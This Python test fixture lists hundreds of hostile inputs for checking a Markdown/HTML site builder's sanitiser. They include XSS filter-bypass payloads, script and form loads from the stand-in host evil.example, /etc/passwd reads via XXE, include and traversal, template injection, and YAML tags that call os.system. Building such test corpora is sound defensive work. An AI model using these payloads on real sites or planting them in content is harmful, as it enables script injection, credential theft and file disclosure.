"""What someone might write to make a reader's browser run, load, send or show what the site did not mean.

Every line is tried in the text of a page and as a value in data/: see test_payloads.py. `evil.example` is where each
would send or fetch; SPRANG is what each would do. A family is a way in; the lines in it are ways past a filter.
"""

FAMILIES: dict[str, list[str]] = {
    "script": [
        "<script>SPRANG()</script>", "<SCRIPT>SPRANG()</SCRIPT>", "<ScRiPt>SPRANG()</sCrIpT>", "<script >SPRANG()</script >",
        "<script\n>SPRANG()</script\n>", "<script\t>SPRANG()</script\t>", "<script/x>SPRANG()</script>",
        "<script src=https://evil.example/x.js></script>", "<script src='//evil.example/x.js'></script>",
        "<script src=data:text/javascript,SPRANG()></script>", "<script type=module>SPRANG()</script>",
        "<script type=importmap>{\"imports\":{\"a\":\"https://evil.example/\"}}</script>",
        "<script>SPRANG()", "<script>SPRANG()//", "<script>SPRANG()</script", "<<script>SPRANG();//<</script>",
        "<scr<script>ipt>SPRANG()</scr</script>ipt>", "<script><!--\nSPRANG()\n--></script>", "<script\x0c>SPRANG()</script>",
        "</p><script>SPRANG()</script>", "</title><script>SPRANG()</script>", "</textarea><script>SPRANG()</script>",
        "</style><script>SPRANG()</script>", "--><script>SPRANG()</script>", "]]><script>SPRANG()</script>",
        "\"><script>SPRANG()</script>", "'><script>SPRANG()</script>", "<noscript><p title=\"</noscript><script>SPRANG()</script>\">",
        "<xmp><script>SPRANG()</script></xmp>", "<plaintext><script>SPRANG()</script>", "<template><script>SPRANG()</script></template>",
        "<script xmlns='http://www.w3.org/1999/xhtml'>SPRANG()</script>",
    ],
    "style": [
        "<style>body{display:none}</style>", "<style>@import url(https://evil.example/x.css);</style>", "<STYLE>*{background:url(//evil.example)}</STYLE>",
        "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=\"icon\" href=\"//evil.example/x.ico\">",
        "<link rel=preload as=script href=https://evil.example/x.js>", "<link rel=import href=https://evil.example/>",
        "<p style=\"position:fixed;inset:0\">x</p>", "<p style=background:url(//evil.example)>x</p>", "<p/style=color:red>x</p>",
        "<a style=\"display:block;position:fixed;inset:0\" href=\"https://evil.example/\">x</a>", "<div style='width:expression(SPRANG())'>",
        "<style><!--</style><script>SPRANG()</script>-->", "<svg><style>@import'//evil.example'</style></svg>",
    ],
    "frame": [
        "<iframe src=https://evil.example/></iframe>", "<iframe src=javascript:SPRANG()></iframe>", "<iframe srcdoc='<script>SPRANG()</script>'></iframe>",
        "<IFRAME SRC=//evil.example></IFRAME>", "<iframe/src=data:text/html,SPRANG>", "<frameset><frame src=//evil.example></frameset>",
        "<object data=https://evil.example/x.swf></object>", "<object data=data:text/html;base64,U1BSQU5H></object>", "<embed src=//evil.example/x.swf>",
        "<applet code=x archive=//evil.example/x.jar></applet>", "<portal src=https://evil.example/></portal>", "<fencedframe></fencedframe>",
    ],
    "form": [
        "<form action=https://evil.example/><input name=losenord><button>OK</button></form>", "<form action=javascript:SPRANG()><input type=submit>",
        "<input onfocus=SPRANG() autofocus>", "<button formaction=https://evil.example/>x</button>", "<button form=sok formaction=javascript:SPRANG()>x</button>",
        "<input type=image src=//evil.example/x.png formaction=//evil.example>", "<select onchange=SPRANG()><option>x</select>",
        "<textarea autofocus onfocus=SPRANG()></textarea>", "<isindex action=javascript:SPRANG() type=image>", "<keygen autofocus onfocus=SPRANG()>",
        "<label for=sok-overst>x</label>", "<input type=hidden name=__proto__ value=x>", "<dialog open><form method=dialog>x</form></dialog>",
    ],
    "event": [
        "<img src=x onerror=SPRANG()>", "<img src=x OnErRoR=SPRANG()>", "<img src=x onerror =SPRANG()>", "<img/src=x/onerror=SPRANG()>",
        "<img src=x\nonerror=SPRANG()>", "<img src=x\tonerror\t=\tSPRANG()>", "<img src='x'onerror=SPRANG()>", "<img \"\"\"><script>SPRANG()</script>\">",
        "<img src=x onerror=\"&#83;PRANG()\">", "<img src=x onerror=&#x53;PRANG()>", "<img src onerror=SPRANG()//", "<img src=x:x onerror=SPRANG()",
        "<body onload=SPRANG()>", "<body onpageshow=SPRANG()>", "<p onclick=SPRANG()>x</p>", "<p onmouseover='SPRANG()'>x</p>", "<p ontouchstart=SPRANG()>x",
        "<p onpointerenter=SPRANG()>x</p>", "<p onanimationstart=SPRANG()>x</p>", "<p oncontentvisibilityautostatechange=SPRANG() style=content-visibility:auto>",
        "<details open ontoggle=SPRANG()><summary>x</summary></details>", "<video><source onerror=SPRANG()></video>", "<audio src=x onerror=SPRANG()>",
        "<marquee onstart=SPRANG()>x</marquee>", "<a href=# onclick=SPRANG()>x</a>", "<a onfocus=SPRANG() tabindex=1 id=x>x</a>", "<x onclick=SPRANG()>x</x>",
        "<p popover onbeforetoggle=SPRANG()>x</p>", "<table background=//evil.example/x.png><tr><td onclick=SPRANG()>x</table>",
        "<br onclick=SPRANG()>", "<hr onmouseenter=SPRANG()>", "<abbr title='x' onclick='SPRANG()'>x</abbr>",
    ],
    "svg": [
        "<svg onload=SPRANG()>", "<svg/onload=SPRANG()>", "<svg><script>SPRANG()</script></svg>", "<svg><script href=//evil.example/x.js /></svg>",
        "<svg><script xlink:href=data:,SPRANG() /></svg>", "<svg><animate onbegin=SPRANG() attributeName=x dur=1s>", "<svg><set onbegin=SPRANG() attributeName=x>",
        "<svg><a xlink:href=javascript:SPRANG()><text y=20>x</text></a></svg>", "<svg><a><animate attributeName=href values=javascript:SPRANG() /><text>x</text></a></svg>",
        "<svg><foreignObject><iframe src=javascript:SPRANG()></iframe></foreignObject></svg>", "<svg><use href=//evil.example/x.svg#a /></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x'><script>SPRANG()</script></svg>#x\"></use></svg>", "<svg><image href=x onerror=SPRANG() /></svg>",
        "<svg><desc><script>SPRANG()</script></desc></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=SPRANG()>",
        "<math href=javascript:SPRANG()>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:SPRANG()>x</maction></math>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=SPRANG()>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=SPRANG()>",
    ],
    "head": [
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:SPRANG()\">",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">", "<meta http-equiv=set-cookie content='a=b'>", "<meta name=referrer content=unsafe-url>",
        "<meta charset=utf-7>", "+ADw-script+AD4-SPRANG()+ADw-/script+AD4-", "<base href=https://evil.example/>", "<BASE HREF='//evil.example/'>", "<base target=_blank>",
        "<title>SPRANG</title>", "<html manifest=//evil.example/x>", "<!DOCTYPE html><script>SPRANG()</script>", "<?xml version=\"1.0\"?><?xml-stylesheet href=\"javascript:SPRANG()\"?>",
        "<?php system('id') ?>", "<% SPRANG %>", "<![CDATA[<script>SPRANG()</script>]]>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<!--#include virtual=\"/etc/passwd\" -->",
        "<!--[if IE]><script>SPRANG()</script><![endif]-->", "<!-- catalog:figure \"><script>SPRANG()</script> -->", "<!-- catalog:../../etc/passwd -->", "<!-- vanlig kommentar -->",
    ],
    "link": [
        "[x](javascript:SPRANG())", "[x](JaVaScRiPt:SPRANG())", "[x]( javascript:SPRANG())", "[x](<javascript:SPRANG()>)", "[x](javascript&colon;SPRANG())",
        "[x](java&#115;cript:SPRANG())", "[x](&#106;avascript:SPRANG())", "[x](&#x6A;avascript:SPRANG())", "[x](&#0000106avascript:SPRANG())", "[x](java&Tab;script:SPRANG())",
        "[x](java&NewLine;script:SPRANG())", "[x](\x01javascript:SPRANG())", "[x](java\x00script:SPRANG())", "[x](javascript://evil.example/%0aSPRANG())", "[x](javascript:SPRANG() \"titel\")",
        "[x](vbscript:SPRANG())", "[x](data:text/html,<script>SPRANG()</script>)", "[x](data:text/html;base64,PHNjcmlwdD5TUFJBTkcoKTwvc2NyaXB0Pg==)", "[x](DATA:text/html,SPRANG)",
        "[x](blob:https://evil.example/1)", "[x](file:///etc/passwd)", "[x](ftp://evil.example/x)", "[x](about:blank)", "[x](view-source:https://evil.example/)", "[x](intent://x#Intent;scheme=http;end)",
        "[x](//evil.example/)", "[x](\\\\evil.example\\x)", "[x](/\\evil.example/)", "[x](ms-settings:x)", "[x](filesystem:https://evil.example/x)", "[x](feed:javascript:SPRANG())",
        "[x](https://evil.example/\"onmouseover=\"SPRANG())", "[x](https://evil.example/ \"onmouseover=SPRANG()\")", "[x](https://evil.example/ '\" onmouseover=\"SPRANG()')",
        "[x](https://evil.example/ \"><script>SPRANG()</script>\")", "[x](https://evil.example/><script>SPRANG()</script>)", "[<script>SPRANG()</script>](https://evil.example/)",
        "[<img src=x onerror=SPRANG()>](https://evil.example/)", "[a](https://evil.example/'onclick='SPRANG())", "[x](../../../../etc/passwd)", "[x](/metoder/)", "[x](metoder.md%00.html)",
        "[![x](javascript:SPRANG())](https://evil.example/)", "[![x](x.png)](javascript:SPRANG())", "[a[b](javascript:SPRANG())c](javascript:SPRANG())",
    ],
    "reference": [
        "[x][r]\n\n[r]: javascript:SPRANG()", "[x][r]\n\n[r]: <javascript:SPRANG()>", "[x][r]\n\n[r]:\n    javascript:SPRANG()", "[x][r]\n\n[r]: javascript:SPRANG() \"t\"", "[r]\n\n[r]: JAVASCRIPT:SPRANG()",
        "[x][r]\n\n[r]: data:text/html,SPRANG", "[x][r]\n\n[r]: java&#115;cript:SPRANG()", "[x][r]\n\n   [r]: vbscript:SPRANG()", "![x][r]\n\n[r]: https://evil.example/x.png", "![r]\n\n[r]: //evil.example/x.png",
        "[x][r]\n\n[r]: https://evil.example/ \"\\\"onmouseover=SPRANG()\"", "[x][r]\n\n[r]: //evil.example/",
    ],
    "autolink": [
        "<javascript:SPRANG()>", "<JAVASCRIPT:SPRANG()>", "<data:text/html,SPRANG>", "<vbscript:SPRANG()>", "<https://evil.example/\"onclick=SPRANG()>", "<https://evil.example/?<script>SPRANG()</script>>",
        "<a@b.se\"onclick=\"SPRANG()>", "<mailto:a@b.se?onclick=SPRANG()>",
    ],
    "picture": [
        "![x](https://evil.example/x.png)", "![x](http://evil.example/x.png)", "![x](//evil.example/x.png)", "![x](data:image/svg+xml,<svg onload=SPRANG()>)", "![x](data:image/png;base64,AAAA)",
        "![x](javascript:SPRANG())", "![x](x.png \"onerror=SPRANG()\")", "![x\" onerror=\"SPRANG()](x.png)", "![\"onerror=\"SPRANG()](x.png)", "![x](x.png\" onerror=\"SPRANG())",
        "![x](&#104;ttps://evil.example/x.png)", "![x](&sol;&sol;evil.example/x.png)", "![x](\\\\evil.example\\x.png)", "![x](/\\evil.example/x.png)", "![x](h\tttps://evil.example/x.png)",
    ],
    "attribute": [
        "Text\n{: onclick=\"SPRANG()\"}", "## Rubrik {: onclick=SPRANG() }", "[x](https://evil.example/){: onclick=SPRANG()}", "*x*{: style=\"position:fixed\"}", "![x](x.png){onerror=SPRANG()}",
        "[x](https://evil.example/){:target=_blank}", "{: .klass }", "| a |\n|---|\n| b {: onclick=SPRANG()} |", "- punkt {: onclick=SPRANG() }", "# x {onclick=SPRANG()}",
        "!!! note \"x\" onclick=SPRANG()\n    text", "!!! \"onclick=SPRANG()\"\n    text", "!!! note onclick=\"SPRANG()\"\n    text", "??? note \"<script>SPRANG()</script>\"\n    text",
        "!!! note \"<img src=x onerror=SPRANG()>\"\n    text",
    ],
    "template": [
        "{{ config }}", "{{ 7 * 191 }}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "{% set x = 1 %}", "{# kommentar #}", "${SPRANG()}", "{{SPRANG}}", "{%raw%}<script>SPRANG()</script>{%endraw%}",
        "--8<-- \"/etc/passwd\"", "[[SPRANG]]", "[TOC]", "$${SPRANG()}$$", "{{ page.content }}", "{{{ SPRANG }}}",
    ],
    "encoding": [
        "&lt;script&gt;SPRANG()&lt;/script&gt;", "&#60;script&#62;SPRANG()&#60;/script&#62;", "&#x3c;script&#x3e;SPRANG()&#x3c;/script&#x3e;", "\\<script>SPRANG()\\</script>", "%3Cscript%3ESPRANG()%3C/script%3E",
        "\\u003cscript\\u003eSPRANG()\\u003c/script\\u003e", "＜script＞SPRANG()＜/script＞", "<ſcript>SPRANG()</ſcript>", "\u202e<script>SPRANG()</script>", "text \u202egnp.exe\u202c text", "text\u2066dold\u2069text",
        "\ufeff<script>SPRANG()</script>", "<scri\u00adpt>SPRANG()</scri\u00adpt>", "<\u200bscript>SPRANG()</script>", "<s\x00cript>SPRANG()</script>", "text\x08\x08\x08text", "text\x1b[31mröd",
        "&amp;lt;script&amp;gt;SPRANG()", "&lt;img src=x onerror=SPRANG()&gt;", "\x7fSPRANG",
    ],
    "code": [
        "`<script>SPRANG()</script>`", "```\n<script>SPRANG()</script>\n```", "```html\n<script>SPRANG()</script>\n```", "    <script>SPRANG()</script>", "~~~\n<img src=x onerror=SPRANG()>\n~~~",
        "```\"><script>SPRANG()</script>\nx\n```", "``` {onclick=SPRANG()}\nx\n```", "```{.x onclick=SPRANG()}\nx\n```", "`[x](javascript:SPRANG())`", "```\n[x](javascript:SPRANG())\n```",
    ],
    "structure": [
        "> <script>SPRANG()</script>", "- <script>SPRANG()</script>", "1. <img src=x onerror=SPRANG()>", "| <script>SPRANG()</script> |\n|---|\n| x |", "| a |\n|---|\n| <img src=x onerror=SPRANG()> |",
        "## <script>SPRANG()</script>", "## x\" onclick=\"SPRANG()", "Rubrik <b onclick=SPRANG()>\n------", "*<script>SPRANG()</script>*", "**[x](javascript:SPRANG())**", "> [x](javascript:SPRANG())",
        "- [ ] <script>SPRANG()</script>", "- Etikett <script>SPRANG()</script>: ____", "Text[^x]\n\n[^x]: <script>SPRANG()</script>", "*[HTML]: <script>SPRANG()</script>", "[^\"><script>SPRANG()</script>]",
        "<p>x</p>\n\n<div markdown=1 onclick=SPRANG()>x</div>", "<a name=\"innehall\">x</a>", "<p id=\"innehall\">x</p>", "<img name=getElementById>", "<a id=config href=https://evil.example/>x</a>",
    ],
}

# What only YAML can do, tried as the whole of a file's value.
YAML = [
    "!!python/object/apply:os.system ['id']", "!!python/object/new:os.system ['id']", "!!python/name:os.system", "!!python/module:os", "!!binary U1BSQU5H", "!SPRANG x", "!!set {a, b}", "!!omap [a: b]",
    "&a x", "*a", "&a [*a]", "<<: {a: b}", "{<<: {a: b}}", "!!js/function 'SPRANG()'", "!!map {a: b}", "!!str &a x", "%YAML 9.9", "@SPRANG", "`SPRANG`", "!<tag:yaml.org,2002:python/none> x",
]

PAYLOADS = [(family, text) for family, texts in FAMILIES.items() for text in texts]
HOSTILE_HTML = [text for _, text in PAYLOADS]
